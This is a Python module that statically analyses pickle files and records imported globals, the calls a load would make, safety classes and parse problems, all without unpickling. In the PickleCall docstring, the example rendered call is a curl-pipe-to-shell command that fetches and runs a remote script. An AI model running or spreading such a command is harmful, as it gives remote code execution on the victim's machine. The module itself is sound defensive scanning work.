"""Static pickle analysis: every stream, every imported global with its opcode offset, every call a load would make.

Opcodes are decoded with :mod:`pickletools` (its opcode table and argument readers, through a capped reader) and
followed by :class:`~workbench.model.pickle_vm.SymbolicMachine`; nothing is ever unpickled. Handled: several
streams in one file, garbage after the last ``STOP``, truncated streams, ``STACK_GLOBAL`` operands reached through
``PUT``/``MEMOIZE``/``GET``, ``INST``/``OBJ``/``NEWOBJ`` instead of ``REDUCE``, and ``GLOBAL`` lines that are not
valid UTF-8 (``genops`` only accepts ASCII there and stops; the unpickler accepts UTF-8, so these two lines are
read here directly).
"""

from __future__ import annotations

import io
import lzma
import pickletools
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, BinaryIO

from workbench.model.limits import ScanLimits
from workbench.model.pickle_vm import Call, SimulationError, SymbolicMachine, render
from workbench.model.policy import DANGEROUS, SAFE, UNKNOWN, ImportPolicy, default_policy
from workbench.model.streams import BoundedReader, BudgetExceeded, LineTooLong, open_evidence
from workbench.textsafe import clean_text, replaced_reason

__all__ = [
    "PickleCall",
    "PickleImport",
    "PickleReport",
    "PickleStream",
    "analyse_pickle",
    "analyse_pickle_bytes",
    "analyse_pickle_file",
    "probe_pickle",
    "worst_safety",
]

_SAFETY_RANK = {SAFE: 0, UNKNOWN: 1, DANGEROUS: 2}
#: opcode by byte value (None where the byte is no opcode), from pickletools' table
_OPCODES = [pickletools.code2op.get(chr(b)) for b in range(256)]
_GLOBAL_CODES = {b"c", b"i"}
MAX_CALLS = 200
#: what reading hostile or damaged bytes can raise (including decompressing streams)
_PARSE_ERRORS = (ValueError, OverflowError, struct.error, EOFError, OSError, zlib.error, lzma.LZMAError)


@dataclass(frozen=True, slots=True)
class PickleImport:
    """One global a pickle imports.

    Attributes:
        module / name: the imported global; None when it cannot be resolved statically.
        offset: byte offset of the importing opcode (from the start of the file or archive member).
        opcode: ``GLOBAL``, ``STACK_GLOBAL``, ``INST`` or ``EXT1/2/4``.
        stream: index of the pickle stream (0 for the first).
        safety: ``safe``, ``dangerous`` or ``unknown`` under the policy.
        rule: policy rule that decided (None for unknown).
        member: archive member holding the stream, or None.
        note: anything odd about the opcode itself (e.g. invalid UTF-8).
    """

    module: str | None
    name: str | None
    offset: int
    opcode: str
    stream: int
    safety: str
    rule: str | None = None
    member: str | None = None
    note: str = ""

    @property
    def qualified(self) -> str:
        """``module.name`` (``?`` for an unresolved part)."""
        return f"{self.module or '?'}.{self.name or '?'}"


@dataclass(frozen=True, slots=True)
class PickleCall:
    """A call the load would make to something not known-safe, rendered as text (never executed).

    Attributes:
        text: e.g. ``posix.system('curl -s http://203.0.113.7/p.sh | sh')``.
        callee: the called global (``module.name``) or the rendered callee expression.
        offset: byte offset of the calling opcode; opcode: ``REDUCE``, ``INST``, ``OBJ``, ``NEWOBJ``...
        stream / member: where it is.
        safety: the callee's class (``dangerous`` or ``unknown``).
    """

    text: str
    callee: str
    offset: int
    opcode: str
    stream: int
    safety: str
    member: str | None = None


@dataclass(frozen=True, slots=True)
class PickleStream:
    """One pickle stream: ``start``/``end`` offsets (end None if it never reached STOP), protocol, opcode count."""

    index: int
    start: int
    end: int | None
    protocol: int | None
    opcodes: int
    error: str | None = None


@dataclass(frozen=True, slots=True)
class PickleReport:
    """Everything the analysis found in one file or archive member.

    Attributes:
        member: archive member, or None for a standalone file.
        streams / imports / calls: as found, in stream order.
        trailing: offset where bytes that are not a pickle begin after the last stream, or None.
        problems: what could not be followed, with offsets (truncation, invalid opcodes, budgets).
        unexamined: what a cap (bytes, opcodes, streams, argument length) left unanalysed, with offsets.
    """

    member: str | None
    streams: tuple[PickleStream, ...]
    imports: tuple[PickleImport, ...]
    calls: tuple[PickleCall, ...]
    trailing: int | None = None
    problems: tuple[str, ...] = ()
    unexamined: tuple[str, ...] = ()

    @property
    def safety(self) -> str:
        """Worst class among the imports (``safe`` when there is none)."""
        return worst_safety(i.safety for i in self.imports)

    @property
    def is_pickle(self) -> bool:
        return bool(self.streams)


def worst_safety(values: Any) -> str:
    """The worst of ``safe`` < ``unknown`` < ``dangerous`` (``safe`` for none)."""
    return max(values, key=_SAFETY_RANK.__getitem__, default=SAFE)


@dataclass(slots=True)
class _StreamState:
    index: int
    member: str | None
    policy: ImportPolicy
    imports: list[PickleImport] = field(default_factory=list)
    calls: list[PickleCall] = field(default_factory=list)
    problems: list[str] = field(default_factory=list)
    note: str = ""

    def _clean(self, text: str, offset: int) -> str:
        cleaned, changed = clean_text(text)
        if changed:
            self.problems.append(f"at offset {offset}: {replaced_reason('a string')}")
        return cleaned

    def on_import(self, module: str | None, name: str | None, opcode: str, offset: int) -> str:
        module = self._clean(module, offset) if isinstance(module, str) else module
        name = self._clean(name, offset) if isinstance(name, str) else name
        verdict = self.policy.classify(module, name)
        safety = verdict.safety
        if self.note and safety == SAFE:
            safety = UNKNOWN
        self.imports.append(
            PickleImport(module, name, offset, opcode, self.index, safety, verdict.rule, self.member, self.note)
        )
        return safety

    def on_call(self, call: Call, offset: int) -> None:
        func = call.func
        safety = getattr(func, "safety", DANGEROUS)
        if len(self.calls) < MAX_CALLS:
            callee = self._clean(render(func, budget=120), offset)
            text = self._clean(render(call), offset)
            self.calls.append(PickleCall(text, callee, offset, call.how, self.index, safety, self.member))


def _iter_ops(reader: BoundedReader, note: Callable[[str], None]) -> Any:
    """Opcodes of one stream as ``(opcode, arg, offset)``, like ``pickletools.genops`` but through a capped reader."""
    read, tell = reader.read, reader.tell
    while True:
        pos = tell()
        code = read(1)
        if not code:
            raise EOFError(f"at offset {pos}: pickle ends before STOP")
        op = _OPCODES[code[0]]
        if op is None:
            raise ValueError(f"at offset {pos}: opcode {code!r} unknown")
        try:
            if code in _GLOBAL_CODES:
                arg: Any = (_read_global_line(reader, pos, note), _read_global_line(reader, pos, note))
            else:
                arg = None if op.arg is None else op.arg.reader(reader)
        except _PARSE_ERRORS as exc:
            text = str(exc)
            text = text if text.startswith("at offset") else f"at offset {pos}: {op.name}: {text}"
            raise (type(exc) if isinstance(exc, BudgetExceeded | LineTooLong) else ValueError)(text) from None
        yield op, arg, pos
        if op.name == "STOP":
            return


def _read_global_line(reader: BoundedReader, pos: int, note: Callable[[str], None]) -> str:
    line = reader.readline()
    if not line.endswith(b"\n"):
        raise ValueError(f"at offset {pos}: GLOBAL/INST argument without newline")
    try:
        return line[:-1].decode("utf-8")
    except UnicodeDecodeError:
        note(f"at offset {pos}: GLOBAL/INST argument is not valid UTF-8 (the unpickler fails here)")
        return line[:-1].decode("utf-8", "backslashreplace")


def analyse_pickle(
    raw: BinaryIO,
    *,
    member: str | None = None,
    size: int | None = None,
    policy: ImportPolicy | None = None,
    limits: ScanLimits | None = None,
    max_streams: int | None = None,
) -> PickleReport:
    """Analyse the pickle stream(s) read from ``raw`` (from its current position).

    Args:
        raw: binary stream (a file, an archive member); offsets are counted from its current position.
        member: archive member name, recorded in every import and call.
        size: bytes available, when known (lets huge arguments be skipped by seeking).
        policy: import policy (the shipped one by default).
        limits: caps (bytes, opcodes, streams, line length).
        max_streams: stop after this many streams (default ``limits.max_streams``).

    Returns:
        The :class:`PickleReport`; a report with no stream means the bytes are not a pickle.
    """
    policy = policy or default_policy()
    limits = limits or ScanLimits()
    reader = BoundedReader(
        raw,
        limit=limits.max_pickle_bytes,
        max_line=limits.max_line_bytes,
        skip_threshold=limits.skip_arg_bytes,
        size=size,
    )
    streams: list[PickleStream] = []
    imports: list[PickleImport] = []
    calls: list[PickleCall] = []
    problems: list[str] = []
    capped: list[str] = []
    trailing: int | None = None
    opcodes = 0
    limit_streams = max_streams or limits.max_streams
    while reader.peek_byte():
        start = reader.tell()
        if len(streams) >= limit_streams:
            trailing = start
            if max_streams is None:
                capped.append(f"at offset {start}: more than {limit_streams} pickle streams; the rest is not analysed")
            break
        state = _StreamState(len(streams), member, policy)
        stream, stopped = _run_stream(reader, state, limits.max_opcodes - opcodes)
        opcodes += stream.opcodes
        garbage = stream.opcodes == 0 or (stream.end is None and stream.protocol is None and not state.imports)
        if garbage:
            trailing = start
            if not streams and stream.error:
                problems.append(f"no pickle stream at offset {start}: {stream.error}")
            break
        streams.append(stream)
        imports.extend(state.imports)
        calls.extend(state.calls)
        problems.extend(state.problems)
        if stopped:
            capped.append(f"stream {stream.index}: {stream.error}; the rest is not analysed")
        elif stream.error:
            problems.append(f"stream {stream.index}: {stream.error}")
        if stopped or stream.end is None:
            break
    return PickleReport(member, tuple(streams), tuple(imports), tuple(calls), trailing, tuple(problems), tuple(capped))


def _run_stream(reader: BoundedReader, state: _StreamState, opcode_budget: int) -> tuple[PickleStream, bool]:
    """Follow one stream. Returns the stream record and whether a budget stopped the analysis."""
    start = reader.tell()
    machine = SymbolicMachine(state.on_import, state.on_call)
    simulating = True
    count = 0
    error: str | None = None
    end: int | None = None

    def note(text: str) -> None:
        state.problems.append(text)
        state.note = "invalid UTF-8 in the GLOBAL/INST argument"

    imports, step = state.imports, machine.step
    try:
        for op, arg, pos in _iter_ops(reader, note):
            count += 1
            if count > opcode_budget:
                stream = PickleStream(state.index, start, None, machine.protocol, count - 1, "opcode budget reached")
                return stream, True
            name = op.name
            if simulating:
                before = len(imports)
                try:
                    step(name, arg, pos)
                except (SimulationError, TypeError, ValueError) as exc:
                    simulating = False
                    state.problems.append(f"at offset {pos}: {name} cannot be followed ({exc}); imports only from here")
                    if len(imports) == before:
                        _import_without_stack(state, name, arg, pos)
            else:
                _import_without_stack(state, name, arg, pos)
            if state.note:
                state.note = ""
            if name == "STOP":
                end = reader.tell()
    except (BudgetExceeded, LineTooLong) as exc:
        return PickleStream(state.index, start, None, machine.protocol, count, str(exc)), True
    except _PARSE_ERRORS as exc:
        error = str(exc)
    return PickleStream(state.index, start, end, machine.protocol, count, error), False


def _import_without_stack(state: _StreamState, name: str, arg: Any, pos: int) -> None:
    if name in ("GLOBAL", "INST"):
        state.on_import(arg[0], arg[1], name, pos)
    elif name == "STACK_GLOBAL":
        state.on_import(None, None, name, pos)


def analyse_pickle_bytes(data: bytes, **kwargs: Any) -> PickleReport:
    """:func:`analyse_pickle` over bytes in memory (same keyword arguments)."""
    return analyse_pickle(io.BytesIO(data), size=len(data), **kwargs)


def analyse_pickle_file(path: Path, **kwargs: Any) -> PickleReport:
    """:func:`analyse_pickle` over a file, opened without following symlinks.

    Raises:
        OSError: the file cannot be read.
    """
    with open_evidence(path) as fh:
        size = path.stat(follow_symlinks=False).st_size
        return analyse_pickle(fh, size=size, **kwargs)


def probe_pickle(head: bytes, *, whole_file: bool, min_partial_ops: int = 64) -> int | None:
    """Whether ``head`` parses as pickle opcodes (``pickletools.genops``), for recognising protocol 0/1 pickles.

    Args:
        head: the first bytes of a file (the byte budget).
        whole_file: ``head`` is the entire file.
        min_partial_ops: when the budget ends before ``STOP``, this many valid opcodes are needed.

    Returns:
        The number of opcodes read when the bytes are a pickle (a complete stream with at least two opcodes, a
        valid run filling the whole budget, or a stream starting with PROTO of which at least two opcodes decode),
        else None.
    """
    buf = io.BytesIO(head)
    count = 0
    try:
        for _op in pickletools.genops(buf):
            count += 1
    except (ValueError, OverflowError, struct.error):
        exhausted = buf.tell() >= len(head)
        if exhausted and not whole_file and count >= min_partial_ops:
            return count
        if head[:1] == b"\x80" and len(head) > 1 and head[1] <= 5:
            # PROTO first: a stream genops gives up on (UTF-8 GLOBAL, truncation) is still a pickle if our capped
            # reader decodes a few opcodes of it
            report = analyse_pickle_bytes(head, max_streams=1)
            opcodes = report.streams[0].opcodes if report.streams else 0
            return opcodes if opcodes >= 2 else None
        return None
    return count if count >= 2 else None
